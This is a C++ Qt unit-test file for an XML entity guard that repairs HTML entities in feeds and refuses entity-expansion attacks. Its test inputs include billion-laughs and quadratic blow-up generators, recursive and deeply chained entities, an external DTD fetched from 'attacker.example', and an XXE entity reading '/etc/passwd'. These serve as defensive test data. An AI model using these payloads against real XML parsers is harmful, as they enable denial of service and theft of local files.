#include "entityguard.h"

#include <QElapsedTimer>
#include <QTest>
#include <QXmlStreamReader>

using namespace Qt::StringLiterals;
using namespace Wiredesk;

namespace {

// What a real XML reader makes of the guarded text: the concatenated character data.
QString readAllText(const QString &xml, QString *error = nullptr)
{
    QXmlStreamReader reader(xml);
    QString text;
    while (!reader.atEnd()) {
        reader.readNext();
        if (reader.isCharacters())
            text += reader.text();
    }
    if (error)
        *error = reader.hasError() ? reader.errorString() : QString();
    return text;
}

QString laughs(int levels)
{
    QString dtd = u"<!DOCTYPE r [<!ENTITY l0 \"lol\">"_s;
    for (int i = 1; i <= levels; ++i) {
        dtd += u"<!ENTITY l%1 \""_s.arg(i);
        for (int j = 0; j < 10; ++j)
            dtd += u"&l%1;"_s.arg(i - 1);
        dtd += u"\">"_s;
    }
    return dtd + u"]><r>&l%1;</r>"_s.arg(levels);
}

QString quadratic(int entitySize, int uses)
{
    QString doc = u"<!DOCTYPE r [<!ENTITY big \""_s + QString(entitySize, u'A') + u"\">]><r>"_s;
    doc.reserve(doc.size() + uses * 5 + 4);
    for (int i = 0; i < uses; ++i)
        doc += u"&big;"_s;
    return doc + u"</r>"_s;
}

} // namespace

class TestEntityGuard final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void repairs_data();
    void repairs();
    void htmlEntityTable_data();
    void htmlEntityTable();
    void cdataAndCommentsUntouched();
    void cleanDocumentIsReturnedAsIs();
    void escapedHtmlIsNotCopied();
    void repairsBetweenKeptReferencesAreExact_data();
    void repairsBetweenKeptReferencesAreExact();
    void smallInternalEntitiesStillWork();
    void billionLaughsRefused();
    void quadraticBlowUpRefused();
    void expansionJustUnderTheLimitIsAllowed();
    void recursiveEntitiesRefused();
    void deepEntityChainRefused();
    void ampersandFloodStaysLinear();
    void parameterEntitiesDropTheDoctype();
    void externalEntitiesBecomeText();
};

void TestEntityGuard::repairs_data()
{
    QTest::addColumn<QString>("input");
    QTest::addColumn<QString>("expectedText"); // what an XML reader then sees
    QTest::newRow("nbsp") << u"<t>Gr&egrave;ve&nbsp;: 3&nbsp;TGV</t>"_s << u"Grève\u00A0: 3\u00A0TGV"_s;
    QTest::newRow("shy") << u"<t>Trans&shy;ports</t>"_s << u"Trans\u00ADports"_s;
    QTest::newRow("typography") << u"<t>&laquo;&nbsp;dialogue&nbsp;&raquo; &mdash; &hellip; &euro;5 &trade;</t>"_s
                                << u"«\u00A0dialogue\u00A0» — … €5 ™"_s;
    QTest::newRow("greek") << u"<t>&alpha;&Omega;</t>"_s << u"αΩ"_s;
    QTest::newRow("xml entities kept") << u"<t>&lt;b&gt; &amp; &quot;x&quot; &apos;y&apos;</t>"_s
                                       << u"<b> & \"x\" 'y'"_s;
    QTest::newRow("bare ampersand") << u"<t>AT&T and Procter & Gamble</t>"_s << u"AT&T and Procter & Gamble"_s;
    QTest::newRow("ampersand in attribute") << u"<t a=\"?x=1&y=2\">ok</t>"_s << u"ok"_s;
    QTest::newRow("unknown entity as text") << u"<t>&bogus; value</t>"_s << u"&bogus; value"_s;
    QTest::newRow("numeric kept") << u"<t>&#233;&#xE9;</t>"_s << u"éé"_s;
    QTest::newRow("windows-1252 numeric") << u"<t>n&#146;ont &#150; &#147;x&#148;</t>"_s << u"n’ont – “x”"_s;
    QTest::newRow("illegal numeric dropped") << u"<t>a&#0;b&#x1F;c&#xFFFE;d</t>"_s << u"abcd"_s;
    QTest::newRow("numeric without semicolon") << u"<t>&#233 x</t>"_s << u"&#233 x"_s;
    QTest::newRow("case matters") << u"<t>&Eacute;&eacute;</t>"_s << u"Éé"_s;
}

void TestEntityGuard::repairs()
{
    QFETCH(QString, input);
    QFETCH(QString, expectedText);
    const GuardedXml guarded = EntityGuard().guard(input);
    QVERIFY2(guarded.error.isEmpty(), qPrintable(guarded.error));
    QString error;
    QCOMPARE(readAllText(guarded.text, &error), expectedText);
    QVERIFY2(error.isEmpty(), qPrintable(error + u"\n"_s + guarded.text));
}

void TestEntityGuard::htmlEntityTable_data()
{
    QTest::addColumn<QString>("name");
    QTest::addColumn<uint>("codePoint");
    QTest::newRow("nbsp") << u"nbsp"_s << 160u;
    QTest::newRow("yuml") << u"yuml"_s << 255u;
    QTest::newRow("Yuml") << u"Yuml"_s << 376u;
    QTest::newRow("AElig") << u"AElig"_s << 198u;
    QTest::newRow("shy") << u"shy"_s << 173u;
    QTest::newRow("rsquo") << u"rsquo"_s << 8217u;
    QTest::newRow("euro") << u"euro"_s << 8364u;
    QTest::newRow("lambda") << u"lambda"_s << 955u;
    QTest::newRow("diams") << u"diams"_s << 9830u;
    QTest::newRow("unknown") << u"nbspx"_s << 0u;
    QTest::newRow("empty") << QString() << 0u;
}

void TestEntityGuard::htmlEntityTable()
{
    QFETCH(QString, name);
    QFETCH(uint, codePoint);
    QCOMPARE(uint(EntityGuard::htmlEntity(name)), codePoint);
}

void TestEntityGuard::cdataAndCommentsUntouched()
{
    const QString input = u"<t><![CDATA[AT&T &nbsp; <b>]]><!-- a & b --><?pi x & y?>&nbsp;</t>"_s;
    const GuardedXml guarded = EntityGuard().guard(input);
    QCOMPARE(guarded.text, u"<t><![CDATA[AT&T &nbsp; <b>]]><!-- a & b --><?pi x & y?>&#160;</t>"_s);
}

void TestEntityGuard::cleanDocumentIsReturnedAsIs()
{
    const QString input = u"<rss><title>Clean</title></rss>"_s;
    const GuardedXml guarded = EntityGuard().guard(input);
    QCOMPARE(guarded.text, input);
    QVERIFY(guarded.warnings.isEmpty());
    QCOMPARE(guarded.text.constData(), input.constData()); // no copy on the common path
}

// Feeds escape their HTML with the five XML entities; nothing to repair, so no copy.
void TestEntityGuard::escapedHtmlIsNotCopied()
{
    const QString input
        = u"<rss><item><description>&lt;p&gt;Storm &amp; flood &lt;a href=&quot;https://x.example/?a=1&amp;"
          "b=2&quot;&gt;more&lt;/a&gt;&lt;/p&gt; &#233;&#x2019;</description></item></rss>"_s;
    const GuardedXml guarded = EntityGuard().guard(input);
    QCOMPARE(guarded.text, input);
    QVERIFY(guarded.warnings.isEmpty());
    QCOMPARE(guarded.text.constData(), input.constData());
}

// The guard copies only around what it repairs; the output must be the input with exactly
// those references replaced, wherever they fall (text runs longer than its 16-unit screen,
// repairs next to kept references, at the very start and end).
void TestEntityGuard::repairsBetweenKeptReferencesAreExact_data()
{
    QTest::addColumn<QString>("input");
    QTest::addColumn<QString>("expected");
    QTest::newRow("mixed") << u"<t>&lt;p&gt;a&nbsp;b &amp; c&#150;d&#0;e & f &bogus; g&#233;</t>"_s
                           << u"<t>&lt;p&gt;a&#160;b &amp; c&#8211;de &amp; f &amp;bogus; g&#233;</t>"_s;
    const QString run = u"plain text longer than one screening block "_s;
    QTest::newRow("long runs") << u"<t>"_s + run + u"&mdash;"_s + run + u"&amp;"_s + run + u"&#x1F;"_s + run
            + u"&hellip;</t>"_s << u"<t>"_s + run + u"&#8212;"_s + run + u"&amp;"_s + run + run + u"&#8230;</t>"_s;
    QTest::newRow("repair first and last") << u"&nbsp;<t/>&"_s << u"&#160;<t/>&amp;"_s;
    QTest::newRow("cdata between repairs") << u"<t>&nbsp;<![CDATA[&nbsp;]]>&nbsp;<!-- & -->&</t>"_s
                                           << u"<t>&#160;<![CDATA[&nbsp;]]>&#160;<!-- & -->&amp;</t>"_s;
}

void TestEntityGuard::repairsBetweenKeptReferencesAreExact()
{
    QFETCH(QString, input);
    QFETCH(QString, expected);
    const GuardedXml guarded = EntityGuard().guard(input);
    QVERIFY2(guarded.error.isEmpty(), qPrintable(guarded.error));
    QCOMPARE(guarded.text, expected);
}

void TestEntityGuard::smallInternalEntitiesStillWork()
{
    const QString input = u"<!DOCTYPE r [<!ENTITY agency \"Northern Press Agency\"><!ENTITY sig \"&agency; desk\">]>"
                          u"<r>&sig;: &agency; &nbsp;</r>"_s;
    const GuardedXml guarded = EntityGuard().guard(input);
    QVERIFY2(guarded.error.isEmpty(), qPrintable(guarded.error));
    QCOMPARE(readAllText(guarded.text), u"Northern Press Agency desk: Northern Press Agency \u00A0"_s);
}

void TestEntityGuard::billionLaughsRefused()
{
    QElapsedTimer timer;
    timer.start();
    const GuardedXml guarded = EntityGuard().guard(laughs(9));
    QVERIFY(guarded.text.isEmpty());
    QVERIFY2(guarded.error.contains(u"3000000000"_s), qPrintable(guarded.error));
    QVERIFY2(timer.elapsed() < 1000, "the guard computes sizes, it never expands");
}

void TestEntityGuard::quadraticBlowUpRefused()
{
    // REFERENCE.md: unguarded, QXmlStreamReader expanded this to 800 M characters (1.5 GB, 6.4 s).
    const QString doc = quadratic(4000, 200000);
    QElapsedTimer timer;
    timer.start();
    const GuardedXml guarded = EntityGuard().guard(doc);
    const qint64 elapsed = timer.elapsed();
    QVERIFY(guarded.text.isEmpty());
    QVERIFY2(guarded.error.contains(u"800000000"_s), qPrintable(guarded.error));
    QVERIFY2(elapsed < 1000, qPrintable(u"%1 ms"_s.arg(elapsed)));
}

void TestEntityGuard::expansionJustUnderTheLimitIsAllowed()
{
    // 100 characters × 50 uses = 5,000: under a 5,000 limit passes, under 4,999 does not.
    const QString doc = quadratic(100, 50);
    QVERIFY(EntityGuard(5000).guard(doc).error.isEmpty());
    QVERIFY(!EntityGuard(4999).guard(doc).error.isEmpty());
    QCOMPARE(readAllText(EntityGuard(5000).guard(doc).text).size(), 5000);
}

void TestEntityGuard::recursiveEntitiesRefused()
{
    const GuardedXml guarded
        = EntityGuard().guard(u"<!DOCTYPE r [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]><r>&a;</r>"_s);
    QVERIFY2(guarded.error.contains(u"refer to themselves"_s), qPrintable(guarded.error));
}

void TestEntityGuard::deepEntityChainRefused()
{
    // 100,000 entities each referring to the previous one: harmless in size, but following the
    // chain recursively would exhaust the stack.
    QString doc = u"<!DOCTYPE r [<!ENTITY e0 \"x\">"_s;
    for (int i = 1; i <= 100000; ++i)
        doc += u"<!ENTITY e%1 \"&e%2;\">"_s.arg(i).arg(i - 1);
    doc += u"]><r>&e100000;</r>"_s;
    const GuardedXml guarded = EntityGuard().guard(doc);
    QVERIFY2(guarded.error.contains(u"64 levels"_s), qPrintable(guarded.error));

    // A short chain is fine.
    const GuardedXml shortChain = EntityGuard().guard(
        u"<!DOCTYPE r [<!ENTITY a \"x\"><!ENTITY b \"&a;&a;\"><!ENTITY c \"&b;&b;\">]><r>&c;</r>"_s);
    QVERIFY2(shortChain.error.isEmpty(), qPrintable(shortChain.error));
    QCOMPARE(readAllText(shortChain.text), u"xxxx"_s);
}

void TestEntityGuard::ampersandFloodStaysLinear()
{
    // An entity value and a body of a million '&' without ';': every look-ahead is bounded.
    const QString flood(1000000, u'&');
    const QString doc = u"<!DOCTYPE r [<!ENTITY a \""_s + flood + u"\">]><r>&a;"_s + flood + u"</r>"_s;
    QElapsedTimer timer;
    timer.start();
    const GuardedXml guarded = EntityGuard().guard(doc);
    QVERIFY2(timer.elapsed() < 10000, "sanity bound only");
    QVERIFY2(guarded.error.isEmpty(), qPrintable(guarded.error.left(200)));
    QVERIFY(guarded.warnings.join(u' ').contains(u"bare"_s));
}

void TestEntityGuard::parameterEntitiesDropTheDoctype()
{
    const GuardedXml guarded = EntityGuard().guard(
        u"<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % ext SYSTEM \"http://attacker.example/x.dtd\"> %ext;]><r>&x; ok</r>"_s);
    QVERIFY(guarded.error.isEmpty());
    QVERIFY(!guarded.text.contains(u"DOCTYPE"_s));
    QVERIFY(!guarded.warnings.isEmpty());
    QCOMPARE(readAllText(guarded.text), u"&x; ok"_s);
}

void TestEntityGuard::externalEntitiesBecomeText()
{
    const GuardedXml guarded
        = EntityGuard().guard(u"<!DOCTYPE r [<!ENTITY secret SYSTEM \"file:///etc/passwd\">]><r>&secret;</r>"_s);
    QVERIFY(guarded.error.isEmpty());
    QString error;
    QCOMPARE(readAllText(guarded.text, &error), u"&secret;"_s);
    QVERIFY2(error.isEmpty(), qPrintable(error));
}

QTEST_APPLESS_MAIN(TestEntityGuard)
#include "test_entityguard.moc"
